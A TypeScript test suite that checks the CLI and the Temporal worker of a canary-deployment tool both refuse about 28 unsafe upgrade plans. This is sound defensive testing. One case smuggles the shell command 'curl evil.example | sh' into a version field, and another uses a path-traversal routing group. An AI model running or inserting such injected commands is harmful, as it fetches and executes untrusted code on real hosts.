import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { WorkflowFailedError } from '@temporalio/client';
import { parse as parseYaml } from 'yaml';
import { untilHealthy } from '../src/devserver/wait';
import type { SandboxFleet } from '../src/sandbox/fleet';
import type { JournalEntry } from '../src/sandbox/journal';
import { TASK_QUEUE } from '../src/workflows/messages';
import { inBatches, runCli, UNREACHABLE_TEMPORAL } from './support/cli';
import { journalMark } from './support/journal';
import { useTestbed } from './support/testbed';

/**
 * Plans a careless or hostile author could write, each refused twice: by `cutover start` (exit 2,
 * before Temporal is reached) and by the worker itself when the same plan is started around the
 * CLI (the Temporal UI or CLI): the run ends FAILED at once naming the field, and the gateway and
 * the fleet are not touched.
 */

const GROUP = 'unsafe';

/** A valid canary plan against `gateway`; each case changes one thing. */
function basePlan(gateway: string): string {
  return `strategy: canary
gateway:
  url: ${gateway}
  requestTimeout: 2s
routingGroup: ${GROUP}
green:
  name: ${GROUP}-green
  version: "480"
  provisioner:
    type: sandbox
    startupDelay: 500ms
health:
  interval: 1s
  timeout: 1m
approval:
  required: false
canary:
  traffic: routing-rule
  steps:
    - weight: 10
      bake: 1m
    - weight: 100
  analysis:
    interval: 10s
    maxErrorRate: 0.05
`;
}

interface UnsafeCase {
  name: string;
  change: (plan: string, gateway: string) => string;
  /** The field the refusal must name, and what it must say. */
  names: string;
  says: RegExp;
}

const withHost = (gateway: string, build: (host: string) => string) => build(new URL(gateway).host);
const long = (length: number) => `g${'x'.repeat(length - 1)}`;

const UNSAFE_PLANS: UnsafeCase[] = [
  {
    name: 'gateway URL with user and password',
    change: (plan, gw) =>
      plan.replace(
        `url: ${gw}`,
        withHost(gw, (host) => `url: http://admin:hunter2@${host}`),
      ),
    names: 'gateway.url',
    says: /must not carry a user or password/,
  },
  {
    name: 'gateway URL with a token in its query',
    change: (plan, gw) => plan.replace(`url: ${gw}`, `url: ${gw}/?token=abc`),
    names: 'gateway.url',
    says: /must not have a query/,
  },
  {
    name: 'gateway URL with a fragment',
    change: (plan, gw) => plan.replace(`url: ${gw}`, `url: ${gw}#admin`),
    names: 'gateway.url',
    says: /or a fragment/,
  },
  {
    name: 'green URL with a user',
    change: (plan) => plan.replace('  version: "480"\n', '  version: "480"\n  url: http://svc@127.0.0.1:8481\n'),
    names: 'green.url',
    says: /must not carry a user or password/,
  },
  {
    name: 'sandbox control URL with a query',
    change: (plan) =>
      plan.replace('    type: sandbox\n', '    type: sandbox\n    controlUrl: http://127.0.0.1:1/?password=x\n'),
    names: 'green.provisioner.controlUrl',
    says: /must not have a query/,
  },
  {
    name: 'health interval 0ms',
    change: (plan) => plan.replace('  interval: 1s\n', '  interval: 0ms\n'),
    names: 'health.interval',
    says: /longer than 0/,
  },
  {
    name: 'health interval 20ms (hammers the coordinator)',
    change: (plan) => plan.replace('  interval: 1s\n', '  interval: 20ms\n'),
    names: 'health.interval',
    says: /at least 100ms/,
  },
  {
    name: 'sub-millisecond health timeout',
    change: (plan) => plan.replace('  timeout: 1m\n', '  timeout: 0.5ms\n'),
    names: 'health.timeout',
    says: /whole number of milliseconds/,
  },
  {
    name: 'approval timeout beyond the Node.js timer limit',
    change: (plan) => plan.replace('  required: false\n', '  required: false\n  timeout: 30d\n'),
    names: 'approval.timeout',
    says: /at most 24d/,
  },
  {
    name: 'keep blue warm for 100 days',
    change: (plan) => `${plan}retire:\n  keepBlueFor: 100d\n`,
    names: 'retire.keepBlueFor',
    says: /at most 24d/,
  },
  {
    name: 'drain interval 1ms',
    change: (plan) => `${plan}drain:\n  interval: 1ms\n`,
    names: 'drain.interval',
    says: /at least 100ms/,
  },
  {
    name: 'analysis interval 0s',
    change: (plan) => plan.replace('    interval: 10s\n', '    interval: 0s\n'),
    names: 'canary.analysis.interval',
    says: /longer than 0/,
  },
  {
    name: 'negative bake',
    change: (plan) => plan.replace('      bake: 1m\n', '      bake: -1m\n'),
    names: 'canary.steps[0].bake',
    says: /duration such as/,
  },
  {
    name: 'gateway retry budget of 30 days',
    change: (plan) => plan.replace('  requestTimeout: 2s\n', '  requestTimeout: 2s\n  retryBudget: 30d\n'),
    names: 'gateway.retryBudget',
    says: /at most 24d/,
  },
  {
    name: 'rules refresh of 0.1ms',
    change: (plan) => plan.replace('  traffic: routing-rule\n', '  traffic: routing-rule\n  rulesRefresh: 0.1ms\n'),
    names: 'canary.rulesRefresh',
    says: /whole number of milliseconds/,
  },
  {
    name: 'maxErrorRate 1 switches the error-rate check off',
    change: (plan) => plan.replace('maxErrorRate: 0.05', 'maxErrorRate: 1'),
    names: 'canary.analysis.maxErrorRate',
    says: /could never fire/,
  },
  {
    name: 'a million failed samples in a row before rolling back',
    change: (plan) =>
      plan.replace('    maxErrorRate: 0.05\n', '    maxErrorRate: 0.05\n    maxConsecutiveFailures: 1000000\n'),
    names: 'canary.analysis.maxConsecutiveFailures',
    says: /at most 1000/,
  },
  {
    name: 'queued growth of a billion switches the queue check off',
    change: (plan) =>
      plan.replace('    maxErrorRate: 0.05\n', '    maxErrorRate: 0.05\n    maxQueuedGrowth: 1000000000\n'),
    names: 'canary.analysis.maxQueuedGrowth',
    says: /at most 100000/,
  },
  {
    name: 'a million failed health checks in a row',
    change: (plan) => plan.replace('  timeout: 1m\n', '  timeout: 1m\n  maxConsecutiveFailures: 1000000\n'),
    names: 'health.maxConsecutiveFailures',
    says: /at most 1000/,
  },
  {
    name: 'canary group equal to the routing group',
    change: (plan) => plan.replace('  traffic: routing-rule\n', `  traffic: routing-rule\n  canaryGroup: ${GROUP}\n`),
    names: 'canary.canaryGroup',
    says: /must differ from routingGroup/,
  },
  {
    name: 'routing group too long for its default canary group',
    change: (plan) => plan.replace(`routingGroup: ${GROUP}\n`, `routingGroup: ${long(60)}\n`),
    names: 'routingGroup',
    says: /too long for the default canary group/,
  },
  {
    name: 'green name too long for its canary entry',
    change: (plan) => plan.replace(`  name: ${GROUP}-green\n`, `  name: ${long(60)}\n`),
    names: 'green.name',
    says: /too long for its canary entry/,
  },
  {
    name: 'canary entry that is a blue backend',
    change: (plan) =>
      plan.replace(`routingGroup: ${GROUP}\n`, `routingGroup: ${GROUP}\nblue:\n  backends: [${GROUP}-green-canary]\n`),
    names: 'green.name',
    says: /makes canary entry unsafe-green-canary, which is a blue backend/,
  },
  {
    name: 'version "latest"',
    change: (plan) => plan.replace('version: "480"', 'version: latest'),
    names: 'green.version',
    says: /Trino release number/,
  },
  {
    name: 'semantic version',
    change: (plan) => plan.replace('version: "480"', 'version: "4.8.0"'),
    names: 'green.version',
    says: /Trino release number/,
  },
  {
    name: 'version with a shell command',
    change: (plan) => plan.replace('version: "480"', 'version: "480; curl evil.example | sh"'),
    names: 'green.version',
    says: /Trino release number/,
  },
  {
    name: 'routing group with a path',
    change: (plan) => plan.replace(`routingGroup: ${GROUP}\n`, 'routingGroup: adhoc/../admin\n'),
    names: 'routingGroup',
    says: /only letters, digits/,
  },
  {
    name: 'green name with a space',
    change: (plan) => plan.replace(`  name: ${GROUP}-green\n`, '  name: "green cluster"\n'),
    names: 'green.name',
    says: /only letters, digits/,
  },
];

/** Effects that change what the gateway routes or which clusters exist (health observations excluded). */
function changes(entries: JournalEntry[]): JournalEntry[] {
  return entries.filter((entry) =>
    /^(backend\.(added|updated|deleted|activated|deactivated)|rule\.|cluster\.)/.test(entry.kind),
  );
}

describe('unsafe plans: refused by the CLI and by the worker, nothing changed', () => {
  const testbed = useTestbed();
  let dir: string;
  let fleet: SandboxFleet;

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'cutover-unsafe-'));
    fleet = await testbed.fleet({
      healthIntervalMs: 100,
      clusters: [{ name: `${GROUP}-blue`, version: '470', routingGroup: GROUP }],
    });
    await untilHealthy(fleet, `${GROUP}-blue`);
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('the base plan is valid, and each case changes it in one way', async () => {
    const valid = await runCli(UNREACHABLE_TEMPORAL, ['start', planFile('valid', basePlan(fleet.gatewayUrl))]);
    assert.equal(valid.code, 1, valid.stderr);
    assert.match(valid.stderr, /cannot reach Temporal/);
    assert.ok(UNSAFE_PLANS.length >= 28, `${UNSAFE_PLANS.length} cases`);
  });

  test(`cutover start refuses ${UNSAFE_PLANS.length} unsafe plans with exit 2 before connecting`, async () => {
    const runs = await inBatches(UNSAFE_PLANS, 4, async (unsafe) => ({
      unsafe,
      run: await runCli(UNREACHABLE_TEMPORAL, ['start', planFile(unsafe.name, textOf(unsafe))]),
    }));
    for (const { unsafe, run } of runs) {
      assert.equal(run.code, 2, `${unsafe.name}: exit code (stderr: ${run.stderr})`);
      const line = run.stderr.split('\n').find((l) => l.includes(`- ${unsafe.names}:`));
      assert.ok(line, `${unsafe.name}: names ${unsafe.names}:\n${run.stderr}`);
      assert.match(line, unsafe.says, unsafe.name);
      assert.doesNotMatch(run.stderr, /hunter2/, `${unsafe.name}: a refused password is not repeated`);
    }
  });

  test(`the worker refuses the same ${UNSAFE_PLANS.length} plans started around the CLI, and nothing changes`, async () => {
    const since = await journalMark();
    const cases = UNSAFE_PLANS.map((unsafe, index) => ({ unsafe, id: `cutover-unsafe-${index}` }));
    const outcomes = await inBatches(cases, 6, async ({ unsafe, id }) => {
      const handle = await testbed.env.client.workflow.start('canaryUpgrade', {
        taskQueue: TASK_QUEUE,
        workflowId: id,
        args: [{ plan: parseYaml(textOf(unsafe)) as unknown, startedBy: 'temporal cli' }],
      });
      const failure = await handle.result().then(
        () => undefined,
        (error: unknown) => error,
      );
      const history = JSON.stringify(await handle.fetchHistory());
      return { unsafe, failure, history };
    });
    for (const { unsafe, failure, history } of outcomes) {
      assert.ok(failure instanceof WorkflowFailedError, `${unsafe.name}: the run failed`);
      const message = failure.cause?.message ?? '';
      assert.equal((failure.cause as { type?: string }).type, 'PlanRefused', `${unsafe.name}: ${message}`);
      const line = message.split('\n').find((l) => l.includes(`- ${unsafe.names}:`));
      assert.ok(line, `${unsafe.name}: the worker names ${unsafe.names}:\n${message}`);
      assert.match(line, unsafe.says, unsafe.name);
      assert.doesNotMatch(history, /activityTaskScheduledEventAttributes/, `${unsafe.name}: no activity ran`);
    }
    assert.deepEqual(changes(fleet.journal(since)), [], 'the gateway and the fleet were not touched');
  });

  function textOf(unsafe: UnsafeCase): string {
    const text = unsafe.change(basePlan(fleet.gatewayUrl), fleet.gatewayUrl);
    assert.notEqual(text, basePlan(fleet.gatewayUrl), `${unsafe.name} changes the plan`);
    return text;
  }

  function planFile(name: string, text: string): string {
    const path = join(dir, `${name.replace(/[^a-z0-9]+/gi, '-')}.yaml`);
    writeFileSync(path, text);
    return path;
  }
});
